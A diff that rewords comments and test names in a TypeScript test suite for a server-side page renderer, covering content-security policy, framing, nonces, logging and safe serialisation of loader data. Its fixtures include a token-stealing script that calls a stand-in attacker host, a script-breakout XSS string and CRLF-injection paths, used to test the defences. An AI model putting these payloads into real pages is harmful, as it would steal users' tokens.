@@ -22,10 +22,10 @@ import { createPageRenderer, hashOf } from "./render-page.ts";
 const injected = "fetch('//evil.example/' + localStorage.token)";
 const own = "document.title = 'ours'";
 
-/** Markup that React takes as it is. */
+/** Markup that React inserts unchanged. */
 const raw = (__html: string) => ({ dangerouslySetInnerHTML: { __html } });
 
-/** As the root does it: a script of the build, some that came in with somebody's text, and the framework's own. */
+/** Like the real root: a script of the build, scripts inside a user's text, and the framework's own. */
 function Root() {
   return createElement("html", null, [
     createElement("head", { key: "head" }, createElement("script", raw(own))),
@@ -52,7 +52,7 @@ function modulesOf(loader: () => unknown): Record<string, object> {
   };
 }
 
-/** The routes of a page inside each other, from the root to the page, which is at `path`. */
+/** Nested routes of a page, from the root to the page, which is at `path`. */
 function buildOf(modules: Record<string, object>, path: string | null): ServerBuild {
   const ids = Object.keys(modules);
   const routes = Object.fromEntries(
@@ -102,7 +102,7 @@ function render(modules: Record<string, object>, address = "/", guestApp = {} as
   return { logged, page: renderer.render(address, "request-1234") };
 }
 
-test("the policy allows the scripts of the build and of the renderer and none that came in with a text", async () => {
+test("the policy allows the scripts of the build and of the renderer, and none from a text", async () => {
   const page = await renderOnce(() => null).page;
   const html = page.body.toString();
   const policy = new Map(page.headers).get("content-security-policy") ?? "";
@@ -117,7 +117,7 @@ test("the policy allows the scripts of the build and of the renderer and none th
   for (const script of known) expect(policy).toContain(hashOf(script));
 });
 
-test("only a page that declares it may be framed, and by pages of this site alone", async () => {
+test("only a page that declares it may be framed, and only by pages of this site", async () => {
   const framing = async (handle: object, loader: () => unknown = () => null) => {
     const { root: whole, page } = modulesOf(loader);
     const { headers } = await render({ root: whole ?? {}, page: { ...page, handle } }).page;
@@ -135,13 +135,13 @@ test("only a page that declares it may be framed, and by pages of this site alon
   expect(await framing({ isFramedByOwn: true }, failing)).toEqual(["DENY", "frame-ancestors 'none'"]);
 });
 
-test("a page is the same bytes each time, and no nonce leaves the server", async () => {
+test("a page has the same bytes each time, and no nonce leaves the server", async () => {
   const [first, second] = await Promise.all([renderOnce(() => null).page, renderOnce(() => null).page]);
   expect(first.body.equals(second.body)).toBe(true);
   expect(first.body.toString().replaceAll('nonce="a"', "")).not.toContain("nonce");
 });
 
-test("a failure is logged once with its cause, under the number that the error screen shows", async () => {
+test("logs a failure once with its cause, under the number that the error screen shows", async () => {
   const cause = new Error("select secret from wallets");
   const { page, logged } = renderOnce(() => Promise.reject(cause));
   const { status, body, headers } = await page;
@@ -158,7 +158,7 @@ function ThrowingPage(): never {
   throw thrown;
 }
 
-/** As the build does it: a route's components get what belongs to the route. */
+/** As the build does it: a route's components receive the properties of the route. */
 const built = (module: { default: FunctionComponent<never>; ErrorBoundary: FunctionComponent<never> }) => ({
   ...module,
   default: UNSAFE_withComponentProps(module.default as FunctionComponent),
@@ -170,7 +170,7 @@ const guestApp = { facts: {}, site: { readSettings } } as unknown as GuestApp;
 const page = { default: () => createElement("p", null, "文章") };
 
 // Covers spec §1.1, §1.4, §2.5.
-test("every page is in Simplified Chinese and has the layout, the switch of the theme and the areas of messages and notifications around it", async () => {
+test("every page is in Simplified Chinese and has the layout, the theme switch and the areas of messages and notifications", async () => {
   const modules = { root: built(root), layout: built(siteLayout), page };
   const { status, body } = await render(modules, "/articles", guestApp, "articles").page;
   const html = body.toString();
@@ -187,7 +187,7 @@ test("every page is in Simplified Chinese and has the layout, the switch of the 
 test.each([
   ["/system", '"/system"'],
   ["/articles", null],
-])("the place to which %s is scrolled is remembered by %s", async (address, key) => {
+])("the scroll position of %s is remembered by %s", async (address, key) => {
   const { body } = await render({ root: built(root), page }, address, guestApp, address.slice(1)).page;
   const [, restored] = /\("react-router-scroll-positions", ("[^"]*"|null)\)/.exec(body.toString()) ?? [];
   expect(restored).toBe(key ?? "null");
@@ -215,7 +215,7 @@ test.each([
   },
 );
 
-test("an address that no route matches is a missing page, and no failure to log", async () => {
+test("an address that no route matches is a missing page, and not logged as a failure", async () => {
   for (const address of ["/%0d%0a", "/a%0ab", "/missing"]) {
     const { page, logged } = renderOnce(() => null, address);
     const { status, headers } = await page;
@@ -231,7 +231,7 @@ test("database failures are thrown, so that the caller can answer that they are 
   expect(logged).toEqual([]);
 });
 
-test("a loader's data reaches the browser unchanged and cannot end the script that carries it", async () => {
+test("a loader's data reaches the browser unchanged and cannot end its script element", async () => {
   const text = "</script><script>alert(1)</script><!-- & \u2028 知行";
   const html = (await renderOnce(() => ({ text })).page).body.toString();
   expect(html).not.toContain("alert(1)</script>");
@@ -243,7 +243,7 @@ test("a loader's data reaches the browser unchanged and cannot end the script th
   expect(value).toMatchObject({ loaderData: { page: { text } } });
 });
 
-test("data for client navigation is the framework's own, with our headers around it", async () => {
+test("data for client navigation is the framework's own, with our headers", async () => {
   const { page } = renderOnce(() => ({ text: "t" }), "/_.data");
   const { body, headers } = await page;
   const { value } = await UNSAFE_decodeViaTurboStream(
